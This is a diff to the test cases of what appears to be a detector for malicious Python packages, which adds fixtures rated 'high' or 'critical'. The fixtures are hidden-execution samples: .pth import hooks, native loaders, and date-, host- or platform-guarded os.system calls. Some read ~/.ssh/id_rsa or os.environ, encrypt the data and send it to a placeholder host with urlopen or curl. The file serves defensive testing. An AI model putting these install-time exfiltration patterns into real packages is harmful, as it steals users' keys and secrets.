@@ -23,6 +23,9 @@ STEAL = (
     "import os, urllib.request\n"
     "urllib.request.urlopen('https://c2.invalid', str(dict(os.environ)).encode())\n"
 )
+ELF = b"\x7fELF" + bytes(60)
+"""Begins as a compiled module does, and holds nothing."""
+KEYS = "open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()"
 CODE = marshal.dumps(compile("1", "x", "exec"))
 XOR = bytes(byte ^ 7 for byte in b"import os; os.system('true')")
 B64 = base64.b64encode(INERT.encode()).decode()
@@ -95,6 +98,17 @@ CASES: dict[str, tuple[Site, str]] = {
             "carrier-1.0": {"_index.js": "// inert\n", "carrier.py": ""},
         },
         "critical",
+    ),
+    "Hades: a compiled module that the line loads": (
+        _package(
+            "ensmallen",
+            {
+                "ensmallen-setup.pth": "import ensmallen._core\n",
+                "ensmallen/__init__.py": "",
+                "ensmallen/_core.abi3.so": ELF,
+            },
+        ),
+        "high",
     ),
     "lightning: a thread that is started by the import": (
         _package(
@@ -183,7 +197,7 @@ CASES: dict[str, tuple[Site, str]] = {
             {
                 "triton/__init__.py": "import os, subprocess\n"
                 "subprocess.run([os.path.join(os.path.dirname(__file__), 'runtime', 'triton')])\n",
-                "triton/runtime/triton": b"\x7fELF" + bytes(60),
+                "triton/runtime/triton": ELF,
             },
         ),
         "high",
@@ -354,16 +368,98 @@ VARIATIONS: dict[str, tuple[Site, str]] = {
         "high",
     ),
     "a native loader that is only named": (
+        _package("v", {"v.pth": "import _v\n", "_v.cpython-311-x86_64-linux-gnu.so": ELF}),
+        "high",
+    ),
+    "a native loader inside the package": (
+        _package("v", {"v.start": "v._v:go\n", "v/__init__.py": "", "v/_v.abi3.so": ELF}),
+        "high",
+    ),
+    "a native loader of another package": (
+        {
+            "front-1.0": {"front.pth": "import back._v\n"},
+            "back-1.0": {"back/__init__.py": "", "back/_v.so": ELF},
+        },
+        "high",
+    ),
+    "guarded by a platform, through a constant of another module": (
         _package(
-            "v", {"v.pth": "import _v\n", "_v.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(60)}
+            "v",
+            {
+                "v.pth": "import v\n",
+                "v/__init__.py": "import os\nfrom v._common import LINUX\nif LINUX:\n    os.system('true')\n",
+                "v/_common.py": "import sys\nLINUX = sys.platform.startswith('linux')\n",
+            },
+        ),
+        "critical",
+    ),
+    "guarded by a platform that chooses the module": (
+        _package(
+            "v",
+            {
+                "v/__init__.py": "from v._common import LINUX\nif LINUX:\n    from v import _linux as impl\n"
+                "else:\n    from v import _other as impl\nimpl.go()\n",
+                "v/_common.py": "import sys\nLINUX = sys.platform.startswith('linux')\n",
+                "v/_linux.py": "import os\ndef go():\n    os.system('true')\n",
+                "v/_other.py": "def go():\n    pass\n",
+            },
         ),
         "high",
     ),
-    "a native sitecustomize": (_package("v", {"sitecustomize.so": b"\x7fELF" + bytes(60)}), "high"),
+    "guarded by a date, at import": (
+        _package(
+            "v",
+            {
+                "v.py": "import datetime, os\nif datetime.date.today() > datetime.date(2030, 1, 1):\n"
+                "    os.system('true')\n"
+            },
+        ),
+        "high",
+    ),
+    "guarded by host and user, at import": (
+        _package(
+            "v",
+            {
+                "v.py": "import getpass, os, socket\n"
+                "if socket.gethostname().startswith('ci-') and getpass.getuser() != 'root':\n"
+                "    os.system('true')\n"
+            },
+        ),
+        "high",
+    ),
+    "guarded by a variable that is always set": (
+        _package("v", {"v.py": "import os\nif os.environ.get('HOME'):\n    os.system('true')\n"}),
+        "high",
+    ),
+    "keys are encrypted and sent by the import": (
+        _package(
+            "v",
+            {
+                "v.py": "import os, urllib.request\nfrom cryptography.fernet import Fernet\n"
+                f"sealed = Fernet(b'x').encrypt({KEYS})\n"
+                "urllib.request.urlopen('https://c2.invalid', sealed)\n"
+            },
+        ),
+        "critical",
+    ),
+    "keys are encrypted and sent by programs": (
+        _package(
+            "v",
+            {
+                "v/__init__.py": "from v import take, give\n",
+                "v/take.py": f"import os, subprocess\nopen('/tmp/k', 'wb').write({KEYS})\n"
+                "subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', '/tmp/k', '-out', '/tmp/k.enc'])\n",
+                "v/give.py": "import subprocess\n"
+                "subprocess.run(['curl', '-T', '/tmp/k.enc', 'https://c2.invalid'])\n",
+            },
+        ),
+        "critical",
+    ),
+    "a native sitecustomize": (_package("v", {"sitecustomize.so": ELF}), "high"),
     "a library that is loaded by its path": (
         _package(
             "v",
-            {"v.pth": "import ctypes; ctypes.CDLL(sitedir + '/v.so')\n", "v.so": b"\x7fELF" + bytes(60)},
+            {"v.pth": "import ctypes; ctypes.CDLL(sitedir + '/v.so')\n", "v.so": ELF},
         ),
         "high",
     ),
